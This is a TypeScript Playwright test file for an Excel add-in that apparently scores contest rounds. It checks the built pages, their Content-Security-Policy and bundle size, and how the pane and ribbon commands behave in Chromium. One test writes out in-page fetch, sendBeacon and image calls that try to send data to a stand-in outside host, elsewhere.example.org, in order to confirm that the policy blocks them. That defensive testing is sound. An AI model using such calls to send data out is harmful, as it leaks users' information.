/*
 * The pages as the build writes them: first as files, then in Chromium with Microsoft's own office.js and a
 * host in Excel's place. The pane speaks, the ribbon's commands work on the workbook, and nothing leaves.
 */
import { strFromU8, unzipSync } from 'fflate';
import { mkdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Frame } from 'playwright-core';
import { wordsIn } from '../../src/text';
import { trialNames } from '../../src/text/diagnosis-words';
import { openXlsx } from '../../src/workbook/file/open';
import { calculateFor } from '../contract/diagnosis-calculator';
import { isMissing } from '../outside-tools';
import { newFolder, type Folder } from '../shell';
import { buildPages } from './build-pages';
import { chromiumPath, openExcelPage, type ExcelPage, type PageOptions } from './excel-page';

const sample = readFileSync(resolve(__dirname, '../samples/demo120.xlsx'));
const chromium = chromiumPath();
const pictures = process.env.DENGBANG_PICTURES;
const { pane: words, diagnosis, home, frame } = wordsIn('zh-CN');

const address = 'https://contest.example.org/dengbang';
let dist: Folder;
let excel: ExcelPage | null = null;

beforeAll(() => {
  isMissing(chromium, 'Chromium');
  dist = newFolder();
  dist.put('cli.js', 'the shell');
  dist.put('taskpane.old.js', 'of an earlier build');
  buildPages(dist.path, { address });
}, 300_000);
afterEach(async () => {
  const opened = excel;
  excel = null;
  await opened?.close();
}, 60_000);
afterAll(() => {
  dist.remove();
});

/** A test that needs Chromium; without it, it has said so. */
function inChromium(name: string, check: (path: string) => Promise<void>): void {
  const run = async (): Promise<void> => {
    if (chromium !== null) await check(chromium);
  };
  test(name, run, 120_000);
}

async function start(path: string, options: Partial<PageOptions> = {}): Promise<ExcelPage> {
  excel = await openExcelPage(path, { dist: dist.path, workbook: sample, locale: 'zh-CN', ...options });
  return excel;
}

/** Keeps a picture for a person to look at, where a folder for them is named. */
async function picture(frame: Frame, name: string): Promise<void> {
  if (pictures === undefined) return;
  mkdirSync(pictures, { recursive: true });
  await (
    await frame.frameElement()
  ).screenshot({ path: join(pictures, `${name}.png`), animations: 'disabled' });
}

async function textOf(frame: Frame): Promise<string> {
  return frame.locator('body').innerText();
}

/** The pane has read the workbook and shows its first page. */
async function settled(pane: Frame): Promise<void> {
  await pane.getByRole('heading', { name: home.way }).waitFor();
}

/** The workbook part by part; the zip around the parts holds the time. */
function contents({ host }: ExcelPage): Readonly<Record<string, string>> {
  const parts = Object.entries(unzipSync(host.save()));
  return Object.fromEntries(parts.map(([name, bytes]) => [name, strFromU8(bytes)]));
}

async function ownSheets({ host }: ExcelPage): Promise<readonly string[]> {
  const snapshot = await openXlsx(host.save(), 'after.xlsx').snapshot();
  return snapshot.sheets.flatMap((sheet) => sheet.own ?? []);
}

describe('what the build writes', () => {
  const text = (name: string): string => readFileSync(dist.at(name), 'utf8');

  test('the pages stand beside the shell, and old programs are gone', () => {
    const shown = dist.list().map((name) => name.replace(/\.[0-9a-f]{8}\./u, '.HASH.'));
    // Parts that are loaded when they are needed have numbers for names.
    expect(shown.filter((name) => !/^\d+\./u.test(name))).toEqual([
      'assets',
      'cli.js',
      'commands.HASH.js',
      'commands.HASH.js.LICENSE.txt',
      'commands.html',
      'manifest.xml',
      'taskpane.HASH.js',
      'taskpane.HASH.js.LICENSE.txt',
      'taskpane.html',
    ]);
  });

  test('the manifest names the production address and only pages and pictures that were built', () => {
    const manifest = text('manifest.xml');
    expect(manifest).not.toContain('localhost');
    const files = [...manifest.matchAll(/https:\/\/contest\.example\.org\/dengbang\/([^"]+)/gu)];
    expect(files.length).toBeGreaterThan(20);
    for (const [, file] of files) expect(() => readFileSync(join(dist.path, file ?? '?'))).not.toThrow();
  });

  test.each(['taskpane.html', 'commands.html'])(
    '%s loads nothing but its own files and office.js',
    (name) => {
      const page = text(name);
      const cloud = 'https://appsforoffice.microsoft.com';
      expect(page).toContain(`<script src=${cloud}/lib/1/hosted/office.js>`);
      const policy = /Content-Security-Policy content="([^"]*)"/u.exec(page)?.[1]?.split('; ') ?? [];
      expect(policy).toEqual(expect.arrayContaining([`default-src 'none'`, `script-src 'self' ${cloud}`]));
      expect(policy.join('; ')).not.toMatch(/unsafe|connect-src|\*/u);
      for (const [found] of page.matchAll(/https?:\/\/[^/\s"';>]*/gu)) expect(found).toBe(cloud);
    },
  );

  test('programs hold no trace of this machine, no source map and no code made from text', () => {
    const programs = dist.list().filter((name) => name.endsWith('.js') && name !== 'cli.js');
    expect(programs.length).toBeGreaterThan(3);
    for (const name of programs) {
      const program = text(name);
      expect(program).not.toContain(resolve(__dirname, '../..'));
      expect(program).not.toMatch(/sourceMappingURL|\beval\(|new Function\(|node_modules/u);
    }
  });

  test('what is loaded before the first page of the pane stays within 250 KB, packed', () => {
    const packed = (name: string): number => gzipSync(readFileSync(dist.at(name)), { level: 9 }).length;
    const programs = dist.list().filter((name) => name.endsWith('.js') && !/^(?:cli|commands)\./u.test(name));
    const program = programs.filter((name) => name.startsWith('taskpane.'));
    // What pages say in one language; the thread that computes loads all the words by itself.
    const [spoken] = programs
      .filter((name) => text(name).includes(frame.preview.write))
      .map(packed)
      .sort((a, b) => a - b);
    expect(program).toHaveLength(1);
    const total = packed(program[0] ?? '') + (spoken ?? Infinity);
    process.stdout.write(`pane: ${Math.round(total / 1000)} KB packed before its first page\n`);
    expect(total).toBeLessThan(250_000);
  });
});

describe('in Chromium', () => {
  inChromium('the pane speaks Chinese once Office is ready', async (path) => {
    const opened = await start(path);
    const pane = await opened.open('taskpane');
    await settled(pane);
    expect(await pane.getByRole('tab').count()).toBe(8);
    expect(opened.officeFiles).toEqual(['office.js', 'excel-web-16.00.js', 'zh-cn/office_strings.js']);
    expectQuiet(opened);
  });

  inChromium('审核 on the ribbon writes nothing, and the open pane tells its result', async (path) => {
    const opened = await start(path);
    const pane = await opened.open('taskpane');
    await settled(pane);
    const before = contents(opened);
    await opened.open('commands');
    await opened.press('check');
    await pane.getByText(/审核完毕。发现错误 \d+ 条/u).waitFor();
    expect(await textOf(pane)).toMatch(/\d\d:\d\d 功能区命令的结果/u);
    expect(contents(opened)).toEqual(before);
    expectQuiet(opened);
  });

  inChromium('评本轮 scores the round of the active sheet; a pane opened later tells it', async (path) => {
    const opened = await start(path);
    activate(opened, '初赛成绩');
    await opened.open('commands');
    await opened.press('scoreRound');
    const own = await ownSheets(opened);
    expect(own).toContain('standings.preliminary');
    expect(own).not.toContain('standings.semifinal');
    const pane = await opened.open('taskpane');
    await pane.getByText(/初赛评定完毕：写好报表 \d+ 张，填写单元格 \d+ 个/u).waitFor();
    expect(await textOf(pane)).not.toMatch(/有 \d+ [格步]没有/u);
    expectQuiet(opened);
  });

  inChromium('评本轮 on the roster writes nothing and names the sheets to go to', async (path) => {
    const opened = await start(path);
    activate(opened, '报名汇总表');
    const before = contents(opened);
    await opened.open('commands');
    await opened.press('scoreRound');
    const pane = await opened.open('taskpane');
    await pane.getByText(/请先点开初赛、复赛、决赛的成绩表/u).waitFor();
    expect(contents(opened)).toEqual(before);
    expectQuiet(opened);
  });

  inChromium('a command that Excel fails still ends, and says so in the pane', async (path) => {
    const opened = await start(path);
    opened.host.faults.push({ which: () => true, code: 'GeneralException', always: true });
    await opened.open('commands');
    await opened.press('check');
    const pane = await opened.open('taskpane');
    await pane.getByText(/没有做完：Excel 报告了错误（GeneralException）/u).waitFor();
  });

  inChromium('while a cell is being edited the pane says what it waits for, then goes on', async (path) => {
    const opened = await start(path);
    const pane = await opened.open('taskpane');
    await settled(pane);
    opened.host.startEditing();
    await pane.getByRole('button', { name: home.checkAgain }).click();
    await pane.getByText(frame.waiting).waitFor();
    await picture(pane, 'zh-light-waiting');
    opened.host.endEditing();
    await pane.getByText(frame.waiting).waitFor({ state: 'hidden' });
    expectQuiet(opened);
  });

  inChromium('a change in the workbook is told, and read when the person wants it', async (path) => {
    const opened = await start(path);
    const pane = await opened.open('taskpane');
    await settled(pane);
    const sheet = opened.host.workbook.sheets[0];
    await opened.tellChange(sheet?.id ?? '', 'A1');
    await pane.getByText(frame.stale).waitFor();
    await picture(pane, 'zh-light-stale');
    await pane.getByRole('button', { name: frame.readAgain }).click();
    await pane.getByText(frame.stale).waitFor({ state: 'hidden' });
    expectQuiet(opened);
  });

  inChromium(
    'the diagnosis passes all that this Excel can do, and leaves the workbook as it was',
    async (path) => {
      const opened = await start(path);
      calculateFor(opened.host);
      const before = contents(opened);
      const pane = await opened.open('taskpane');
      await pane.getByRole('tab', { name: diagnosis.title }).click();
      await pane.getByRole('button', { name: diagnosis.start }).click();
      const counts = { passed: trialNames.length - 2, failed: 0, impossible: 2 };
      await pane.getByText(diagnosis.ended.whole(counts)).first().waitFor({ timeout: 100_000 });
      const report = await pane.getByLabel(diagnosis.report.label).inputValue();
      expect(report).toContain('Excel · 16.0.1 · OfficeOnline · zh-CN');
      expect(report).toContain(`${diagnosis.report.has}: ExcelApi 1.9, DelayForCellEdit 1.1`);
      expect(contents(opened)).toEqual(before);
      expectQuiet(opened);
    },
  );

  inChromium('an English Excel has an English pane, and it can be changed there', async (path) => {
    const opened = await start(path, { locale: 'en-US' });
    const pane = await opened.open('taskpane');
    await pane.getByRole('heading', { name: wordsIn('en-US').home.way }).waitFor();
    await pane.getByRole('button', { name: '中文' }).click();
    await settled(pane);
    expectQuiet(opened);
  });

  inChromium('even a script that tried could send nothing anywhere', async (path) => {
    const opened = await start(path);
    const pane = await opened.open('taskpane');
    const tried = await pane.evaluate(async () => {
      const refused = await fetch('https://elsewhere.example.org/fetch').catch(() => null);
      navigator.sendBeacon('https://elsewhere.example.org/beacon', 'marks');
      const image = new Image();
      const failed = new Promise((resolveFailed) => (image.onerror = resolveFailed));
      image.src = 'https://elsewhere.example.org/image';
      await failed;
      return refused;
    });
    expect(tried).toBeNull();
    expect(opened.strangers).toEqual([]);
    // The policy itself says so on the console, once for each.
    expect(opened.complaints.filter((one) => one.includes('Content Security Policy')).length).toBeGreaterThan(
      2,
    );
  });

  inChromium('outside Excel, and where its program cannot start, the page says so', async (path) => {
    const opened = await start(path);
    await opened.page.goto('https://localhost/taskpane.html');
    await opened.page.getByText(words.notExcel).waitFor();
    await opened.page.route('**/taskpane.*.js', (route) => route.abort());
    await opened.page.reload();
    const text = opened.page.getByText(words.notStarted);
    expect(await text.isVisible()).toBe(false);
    await text.waitFor({ state: 'visible' });
  });
});

function activate({ host }: ExcelPage, name: string): void {
  const sheet = host.workbook.sheets.find((one) => one.name === name);
  if (sheet === undefined) throw new Error(`no sheet ${name}`);
  host.workbook.active = sheet;
}

function expectQuiet({ strangers, complaints }: ExcelPage): void {
  expect({ strangers, complaints }).toEqual({ strangers: [], complaints: [] });
}
